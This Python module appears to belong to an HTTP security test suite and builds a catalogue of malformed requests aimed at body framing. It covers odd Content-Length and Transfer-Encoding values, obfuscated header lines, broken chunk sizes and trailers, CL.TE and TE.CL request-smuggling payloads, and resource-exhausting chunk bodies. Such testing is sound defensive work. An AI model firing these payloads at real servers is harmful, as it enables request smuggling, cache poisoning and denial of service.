"""Attacks on where a body ends: lengths, codings, chunks."""

from words import CHUNKED, HOST, IN_CHUNKS, JOB, LENGTH, SHOP, SMUGGLED, get, post

_SIZE = b"%x" % len(JOB)

# What follows "Content-Length:".
_LENGTHS = (
    b"",
    b" ",
    b" +48",
    b" -48",
    b" -1",
    b" 0x30",
    b" 48.0",
    b" 4 8",
    b" 48,48",
    b" 48, 48",
    b" 48;q",
    b" 48 ",
    b"\t48",
    b" \x0b48",
    b" 48\x00",
    b" 048",
    b" 18446744073709551616",
    b" 18446744073709551664",
    b" 9" * 40,
    b" 9223372036854775808",
    b" 99999999999999999999999999",
    b" 1e1",
    b" 1048577",
    b" \xb2",
    b" 48\xa0",
    b" 0",
    b" 47",
    b" 000000000048",
    b"48",
)

_TWO_LENGTHS = (
    (b"48", b"48"),
    (b"48", b"0"),
    (b"0", b"48"),
    (b"48", b"+48"),
    (b"", b"48"),
)

# What follows "Transfer-Encoding:".
_CODINGS = (
    b" identity",
    b" gzip",
    b" gzip, chunked",
    b" chunked, gzip",
    b" xchunked",
    b" chunked, chunked",
    b" chunked,chunked",
    b" chunked ",
    b"\tchunked",
    b"chunked",
    b" \x0bchunked",
    b"\x0bchunked",
    b" chunked\x0b",
    b" chunked\x0c",
    b" \x00chunked",
    b" chunked\x00",
    b" chunke",
    b" chunkedd",
    b' "chunked"',
    b" chunked;q=1",
    b" ",
    b" CHUNKED",
    b" Chunked",
    b" chun ked",
    b" chunked,",
    b" ,chunked",
    b" chunked\xa0",
    b"",
    b" identity, chunked",
    b" chunked, identity",
    b" \xefchunked",
    b" x,chunked",
)

# A coding that somebody may overlook.
_CODING_LINES = (
    b"Transfer-Encoding : chunked\r\n",
    b"Transfer-Encoding\t: chunked\r\n",
    b" Transfer-Encoding: chunked\r\n",
    b"X: y\nTransfer-Encoding: chunked\r\n",
    b"X: y\rTransfer-Encoding: chunked\r\n",
    b"Transfer_Encoding: chunked\r\n",
    b"Transfer-Encoding:\r\n chunked\r\n",
    b"Transfer-Encoding: chunked\n\r\n",
    b"Transfer-Encoding: a\r\nTransfer-Encoding: chunked\r\n",
    CHUNKED * 2,
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: a\r\n",
    b"\r\nX: y\r\n",
    b"Transfer\x00-Encoding: chunked\r\n",
    b"X: y\r\n\rTransfer-Encoding: chunked\r\n",
)

# The size of a chunk, without its end.
_SIZES = (
    b"+30",
    b"-30",
    b" 30",
    b"30 ",
    b"30\t",
    b"0x30",
    b"0X30",
    b"030",
    b"3 0",
    b"30h",
    b"",
    b"g",
    b"30;",
    b"30;a",
    b"30;a=b",
    b'30;a="b',
    b'30;a="b"',
    b"30 ;a=b",
    b"30;\x00",
    b"30;a=b;c",
    b"30,",
    b"00000000000000000030",
    b"10000000000000030",
    b"f" * 16,
    b"ffffffffffffffff0",
    b"7fffffffffffffff",
    b"30\r",
    b"30;a\n",
    b"30;\ra",
    b"\x0b30",
    b"30;" + b"a" * 9000,
    b"30;" + b"a=b;" * 20_000,
    b"110000",
    b"\xb230",
    b"30;a=\xff",
)

# In place of CR LF.
_ENDS = (
    b"\n",
    b"\r",
    b"",
    b"\r\r\n",
    b"\n\n",
    b"  \r\n",
    b"x\r\n",
    b"\r\nx",
    b"\x00\r\n",
)

_TRAILERS = (
    b"X-Name: mailer\r\n",
    b"X-Queue: print\r\n",
    b"Content-Length: 5\r\n",
    CHUNKED,
    b"Host: evil\r\n",
    b"A: b\r\n" * 60,
    b"A : b\r\n",
    b": b\r\n",
    b" A: b\r\n",
    b"A: b\n",
    b"A\r\n",
    b"Connection: close\r\n",
    b"Expect: 100-continue\r\n",
    b"A: %b\r\n" % (b"b" * 9000),
    b"A: b\x00\r\n",
    b"Upgrade: h2c\r\n",
    b"Transfer-Encoding: identity\r\nContent-Length: 3\r\n",
)

_BYTEWISE = b"".join(b"1\r\n%c\r\n" % byte for byte in JOB) + b"0\r\n\r\n"


def _old(data: bytes) -> bytes:
    return data.replace(b"HTTP/1.1", b"HTTP/1.0", 1)


def _chunked(*parts: bytes) -> bytes:
    return post(CHUNKED, body=b"".join(parts) + SMUGGLED)


_BY_LENGTH = {
    "length then chunked": post(LENGTH, CHUNKED, body=IN_CHUNKS + SMUGGLED),
    "chunked then length": post(CHUNKED, LENGTH, body=IN_CHUNKS + SMUGGLED),
    "chunked and length 0": post(
        CHUNKED, b"Content-Length: 0\r\n", body=IN_CHUNKS + SMUGGLED
    ),
    "length 4, chunked, TE.CL": post(
        b"Content-Length: 4\r\n",
        CHUNKED,
        body=b"5c\r\n" + SMUGGLED + b"\r\n0\r\n\r\n",
    ),
    "length 6, chunked, CL.TE": post(
        b"Content-Length: 6\r\n", CHUNKED, body=b"0\r\n\r\n" + SMUGGLED
    ),
    "no length, but a body": post(body=SMUGGLED),
    "a GET with a body": get(b"Content-Length: %d\r\n" % len(SMUGGLED)) + SMUGGLED,
    "a HEAD with a body": b"HEAD /version HTTP/1.1\r\n"
    + HOST
    + b"Content-Length: %d\r\n\r\n" % len(SMUGGLED)
    + SMUGGLED,
    "a DELETE with a length": b"DELETE /api/v1/jobs/a HTTP/1.1\r\n"
    + SHOP
    + LENGTH
    + b"\r\n"
    + JOB
    + SMUGGLED,
    "content_length": post(b"Content_Length: 48\r\n", body=SMUGGLED),
    "a body that is short": post(b"Content-Length: 500\r\n", body=JOB),
    "length, folded": post(b"Content-Length:\r\n 48\r\n", body=JOB + SMUGGLED),
    "length with a bare CR": post(b"Content-Length: 48\r", b"\n", body=JOB + SMUGGLED),
}

_BY_CODING = {
    "chunks in HTTP/1.0": _old(post(CHUNKED, body=IN_CHUNKS + SMUGGLED)),
    "chunks in HTTP/1.0, kept alive": _old(
        post(CHUNKED, b"Connection: keep-alive\r\n", body=IN_CHUNKS + SMUGGLED)
    ),
    "a GET in chunks": get(CHUNKED) + b"0\r\n\r\n" + SMUGGLED,
    "a GET with a coding of its own": get(b"Transfer-Encoding: x\r\n") + SMUGGLED,
}

_BY_CHUNKS = {
    "a chunk a byte": post(CHUNKED, body=_BYTEWISE + SMUGGLED),
    "chunks that never end": post(CHUNKED, body=_SIZE + b"\r\n" + JOB + b"\r\n"),
    "chunks of more than a body": post(CHUNKED, body=b"100001\r\n" + b" " * 0x100001),
    "chunking that costs too much": post(
        CHUNKED, body=(b"1;" + b"a" * 200 + b"\r\n \r\n") * 50_000
    ),
}

FRAMING: dict[str, bytes] = {
    **{
        f"content-length {value!r}": post(
            b"Content-Length:%b\r\n" % value, body=JOB + SMUGGLED
        )
        for value in _LENGTHS
    },
    **{
        f"two lengths {first!r} {second!r}": post(
            b"Content-Length: %b\r\nContent-Length: %b\r\n" % (first, second),
            body=JOB + SMUGGLED,
        )
        for first, second in _TWO_LENGTHS
    },
    **{
        f"coding {value!r}": post(
            b"Transfer-Encoding:%b\r\n" % value, body=IN_CHUNKS + SMUGGLED
        )
        for value in _CODINGS
    },
    **{
        f"coding {value!r} and a length": post(
            b"Transfer-Encoding:%b\r\n" % value, LENGTH, body=JOB + SMUGGLED
        )
        for value in _CODINGS
    },
    **{
        f"line {line!r}": post(line, LENGTH, body=JOB + SMUGGLED)
        for line in _CODING_LINES
    },
    **{
        f"chunk size {size!r:.40}": _chunked(size, b"\r\n", JOB, b"\r\n0\r\n\r\n")
        for size in _SIZES
    },
    **{
        f"chunk ended by {end!r}": _chunked(_SIZE, b"\r\n", JOB, end, b"0\r\n\r\n")
        for end in _ENDS
    },
    **{
        f"chunk size ended by {end!r}": _chunked(_SIZE, end, JOB, b"\r\n0\r\n\r\n")
        for end in _ENDS
    },
    **{
        f"last chunk ended by {end!r}": _chunked(_SIZE, b"\r\n", JOB, b"\r\n0\r\n", end)
        for end in _ENDS
    },
    **{
        f"trailer {lines!r:.50}": _chunked(
            _SIZE, b"\r\n", JOB, b"\r\n0\r\n", lines, b"\r\n"
        )
        for lines in _TRAILERS
    },
    **_BY_LENGTH,
    **_BY_CODING,
    **_BY_CHUNKS,
}
